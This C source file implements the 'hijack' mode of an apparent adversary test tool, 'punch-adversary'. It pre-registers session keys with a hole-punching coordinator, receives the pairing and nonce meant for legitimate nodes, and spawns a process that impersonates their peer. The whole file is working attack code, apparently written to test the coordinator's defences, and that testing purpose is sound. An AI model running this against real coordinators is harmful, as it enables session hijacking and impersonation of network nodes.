/* hijack: a client of the honest coordinator that registers the keys it
 * knows before their nodes do. The coordinator pairs the node that comes
 * later with mallory and hands both the session nonce; mallory then plays
 * the node's peer (peerplay.h). Each key has one registration at a time,
 * renewed as soon as one ends (paired, rejected or timed out), so both
 * nodes of a trial fall to it in turn. */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "advcoord.h"
#include "log.h"
#include "monoclock.h"
#include "optparse.h"
#include "peerplay.h"
#include "roles.h"

#define HIJACK_MAX_KEYS 1000
#define HIJACK_RETRY_MS 100   /* a new registration after one ends */
#define HIJACK_BACKOFF_MS 1000 /* after a refusal or a failed connect */
#define HIJACK_TICK_MS 100

enum hijack_state {
	HIJACK_IDLE,	   /* no connection; a new one at retry_ns */
	HIJACK_CONNECTING, /* connect() in flight */
	HIJACK_HELLO,	   /* version sent, waiting for version + verack */
	HIJACK_REGISTERED, /* hpregister sent, waiting for hppunch */
};

struct hijack_slot {
	struct advio io;
	uint64_t key;
	enum hijack_state state;
	uint16_t port; /* our local port: the endpoint the node is told */
	int got_version, got_verack;
	int64_t retry_ns;
};

struct hijack {
	struct adv_ctx *ctx;
	struct sockaddr_storage target;
	struct p2p_netaddr recv; /* target, as our version's addr_recv */
	struct hijack_slot *slots;
	unsigned n;
	unsigned registrations, punches;
};

static void hijack_end(struct hijack_slot *sl, int backoff_ms)
{
	advio_close(&sl->io);
	sl->state = HIJACK_IDLE;
	sl->got_version = sl->got_verack = 0;
	sl->retry_ns = mono_ns() + backoff_ms * INT64_C(1000000);
}

static void hijack_open(struct hijack *h, struct hijack_slot *sl)
{
	struct sockaddr_storage any = {.ss_family = h->target.ss_family};
	socklen_t len = any.ss_family == AF_INET6 ? sizeof(struct sockaddr_in6)
						  : sizeof(struct sockaddr_in);
	int fd = advio_bound(&any, 0);

	if (fd < 0) {
		sl->retry_ns = mono_ns() + HIJACK_BACKOFF_MS * INT64_C(1000000);
		return;
	}
	advio_init(&sl->io, fd, h->ctx->magic);
	sl->port = advio_local_port(fd);
	if (connect(fd, (struct sockaddr *)&h->target, len) &&
	    errno != EINPROGRESS) {
		hijack_end(sl, HIJACK_BACKOFF_MS);
		return;
	}
	sl->state = HIJACK_CONNECTING;
}

static void hijack_connected(struct hijack *h, struct hijack_slot *sl)
{
	socklen_t len = sizeof(int);
	int soerr = 0;

	getsockopt(sl->io.fd, SOL_SOCKET, SO_ERROR, &soerr, &len);
	if (soerr || advio_send_version(&sl->io, &h->recv,
					advcoord_random64()) < 0) {
		hijack_end(sl, HIJACK_BACKOFF_MS);
		return;
	}
	sl->state = HIJACK_HELLO;
}

static int hijack_register(struct hijack *h, struct hijack_slot *sl)
{
	struct coord_register reg = {.proto = COORD_PROTO, .key = sl->key};
	uint8_t buf[COORD_REGISTER_FLAGS_LEN];
	int n = coord_register_encode(buf, sizeof(buf), &reg);

	if (n < 0 || advio_send(&sl->io, COORD_CMD_REGISTER, buf,
				(size_t)n) < 0)
		return -ENOBUFS;
	sl->state = HIJACK_REGISTERED;
	h->registrations++;
	adv_event(h->ctx, "registered",
		  json_pack("{s:I,s:i}", "key", (json_int_t)sl->key, "port",
			    sl->port));
	return 0;
}

/* hppunch: the node's endpoint, its role's opposite for us, the nonce.
 * The play binds our registration's port, so the node reaches it. */
static int hijack_punch(struct hijack *h, struct hijack_slot *sl,
			const uint8_t *pl, uint32_t len)
{
	struct coord_punch m;
	struct peerplay_params pp = {.key = sl->key, .listen_fd = -1};
	struct sockaddr_in *l4 = (struct sockaddr_in *)&pp.local;
	struct sockaddr_in6 *l6 = (struct sockaddr_in6 *)&pp.local;
	int err;

	if (coord_punch_decode(pl, len, &m))
		return -EBADMSG;
	pp.local.ss_family = h->target.ss_family;
	if (pp.local.ss_family == AF_INET6)
		l6->sin6_port = htons(sl->port);
	else
		l4->sin_port = htons(sl->port);
	p2p_netaddr_to_sockaddr(&m.peer, &pp.peer);
	pp.t_start_ns = mono_ns() + m.delay_ms * INT64_C(1000000);
	pp.initiator = m.role == COORD_ROLE_INITIATOR;
	pp.nonce = m.nonce;
	h->punches++;
	err = peerplay_spawn(h->ctx, &pp);
	if (err) {
		errno = -err;
		log_warn("play for key %" PRIu64, sl->key);
	}
	return 1; /* this registration is spent */
}

/* One message from the coordinator: 0 to go on, 1 when the registration
 * is spent (paired), -errno to drop it. */
static int hijack_message(struct hijack *h, struct hijack_slot *sl,
			  const struct p2p_hdr *hd, const uint8_t *pl)
{
	if (!strcmp(hd->command, "ping") && hd->length == 8)
		return advio_send(&sl->io, "pong", pl, 8) < 0 ? -ENOBUFS : 0;
	if (sl->state == HIJACK_HELLO) {
		if (!strcmp(hd->command, "version")) {
			sl->got_version = 1;
			if (advio_send(&sl->io, "verack", NULL, 0) < 0)
				return -ENOBUFS;
		} else if (!strcmp(hd->command, "verack")) {
			sl->got_verack = 1;
		}
		if (sl->got_version && sl->got_verack)
			return hijack_register(h, sl);
		return 0;
	}
	if (!strcmp(hd->command, COORD_CMD_REJECT))
		return -ECONNREFUSED;
	if (!strcmp(hd->command, COORD_CMD_PUNCH))
		return hijack_punch(h, sl, pl, hd->length);
	return 0;
}

static void hijack_input(struct hijack *h, struct hijack_slot *sl)
{
	const uint8_t *pl;
	struct p2p_hdr hd;
	int n = advio_fill(&sl->io), r;

	if (n == 0 || (n < 0 && n != -EAGAIN)) {
		hijack_end(sl, HIJACK_RETRY_MS);
		return;
	}
	while ((n = advio_next(&sl->io, &hd, &pl)) != 0) {
		r = n < 0 ? n : hijack_message(h, sl, &hd, pl);
		if (r) {
			advio_flush(&sl->io);
			hijack_end(sl, r == -ECONNREFUSED ? HIJACK_BACKOFF_MS
					: r > 0		  ? HIJACK_RETRY_MS
							  : HIJACK_BACKOFF_MS);
			return;
		}
		advio_consume(&sl->io, (size_t)n);
	}
}

static void hijack_round(struct hijack *h, struct pollfd *pfd)
{
	int64_t now = mono_ns();
	unsigned i;

	for (i = 0; i < h->n; i++) {
		struct hijack_slot *sl = &h->slots[i];

		if (sl->state == HIJACK_IDLE && now >= sl->retry_ns)
			hijack_open(h, sl);
		pfd[i].fd = sl->state == HIJACK_IDLE ? -1 : sl->io.fd;
		pfd[i].events = sl->state == HIJACK_CONNECTING ? POLLOUT
							       : POLLIN;
		if (advio_pending(&sl->io))
			pfd[i].events |= POLLOUT;
		pfd[i].revents = 0;
	}
	if (poll(pfd, h->n, adv_wait_ms(h->ctx, HIJACK_TICK_MS)) < 0)
		return;
	for (i = 0; i < h->n; i++) {
		struct hijack_slot *sl = &h->slots[i];

		if (!pfd[i].revents || sl->state == HIJACK_IDLE)
			continue;
		if (sl->state == HIJACK_CONNECTING)
			hijack_connected(h, sl);
		else if (pfd[i].revents & (POLLIN | POLLHUP | POLLERR))
			hijack_input(h, sl);
		if (sl->state != HIJACK_IDLE && advio_flush(&sl->io))
			hijack_end(sl, HIJACK_BACKOFF_MS);
	}
	peerplay_reap();
}

/* "FIRST:COUNT", COUNT 1..HIJACK_MAX_KEYS. 0 or 2. */
static int hijack_keys(const char *v, uint64_t *first, unsigned *count)
{
	const char *colon = strchr(v ? v : "", ':');
	char head[32];
	uint64_t c;

	if (!colon || (size_t)(colon - v) >= sizeof(head))
		goto bad;
	memcpy(head, v, (size_t)(colon - v));
	head[colon - v] = '\0';
	if (optparse_u64(head, 1, UINT64_MAX - HIJACK_MAX_KEYS, first) ||
	    optparse_u64(colon + 1, 1, HIJACK_MAX_KEYS, &c))
		goto bad;
	*count = (unsigned)c;
	return 0;
bad:
	fprintf(stderr, "punch-adversary: --keys: want FIRST:COUNT (COUNT "
			"1..%d), got '%s'\n", HIJACK_MAX_KEYS, v ? v : "");
	return 2;
}

static int hijack_args(int argc, char **argv, struct hijack *h,
		       uint64_t *first)
{
	static const struct option lo[] = {{"target", 1, NULL, 't'},
					   {"keys", 1, NULL, 'k'},
					   {NULL, 0, NULL, 0}};
	int opt, have_t = 0;

	optind = 1;
	while ((opt = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		if (opt == 't' && !advcoord_addr_opt("target", optarg,
						     &h->target))
			have_t = 1;
		else if (opt != 'k' || hijack_keys(optarg, first, &h->n))
			return 2;
	}
	if (!have_t || !h->n || optind != argc) {
		fprintf(stderr, "punch-adversary: hijack wants --target "
				"IP:PORT --keys FIRST:COUNT\n");
		return 2;
	}
	return 0;
}

int adv_hijack_run(struct adv_ctx *c, int argc, char **argv)
{
	struct hijack h = {.ctx = c};
	struct pollfd *pfd;
	uint64_t first = 0;
	unsigned i;

	if (hijack_args(argc, argv, &h, &first))
		return 2;
	p2p_netaddr_from_sockaddr(&h.recv, (struct sockaddr *)&h.target);
	h.slots = calloc(h.n, sizeof(*h.slots));
	pfd = calloc(h.n, sizeof(*pfd));
	if (!h.slots || !pfd) {
		free(h.slots);
		free(pfd);
		return 1;
	}
	for (i = 0; i < h.n; i++) {
		h.slots[i].key = first + i;
		h.slots[i].io.fd = -1;
	}
	adv_event(c, "ready", json_pack("{s:I,s:i}", "first",
					(json_int_t)first, "count", h.n));
	while (!adv_done(c))
		hijack_round(&h, pfd);
	for (i = 0; i < h.n; i++)
		advio_close(&h.slots[i].io);
	peerplay_stop_all();
	log_info("%u registrations, %u punches", h.registrations, h.punches);
	adv_event(c, "stop", json_pack("{s:I,s:i,s:i}", "bytes_sent",
				       (json_int_t)advio_bytes_sent(),
				       "registrations", h.registrations,
				       "punches", h.punches));
	free(h.slots);
	free(pfd);
	return 0;
}
